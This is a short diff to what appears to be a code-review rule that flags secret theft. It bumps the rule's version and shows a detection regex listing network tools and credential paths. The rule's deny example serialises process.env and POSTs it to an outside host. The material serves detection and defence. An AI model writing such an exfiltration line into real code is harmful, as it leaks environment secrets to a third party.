@@ -48,7 +48,7 @@ const may =
   /https?:|wss?:|\d+\.\d+\.\d+\.\d+|environ|getenv|\benv\b|ENV|eval|exec|spawn|system|popen|socket|Socket|Process|Command|Function|curl|wget|fetch|passw|\.ssh|\.aws|credentials|import\s*\(|phpinfo|shell|process|params|request|\$_[A-Z]/
 
 export const docs: RuleDocs = {
-  since: '0.10.0',
+  since: '0.11.0',
   why: 'Nobody runs it now, so no other rule is asked: a helper, a route or a test set-up does its harm when the program starts. The code is read in any language by its statements and by where values flow. A key that goes to the service it belongs to is ordinary code, as is a machine that the project knows already. What the file did before is not held against the edit.',
   denies: [
     "src/a.ts = const all = JSON.stringify(process.env)\nfetch('https://collect.dev-stats.io', { method: 'POST', body: all })\n",
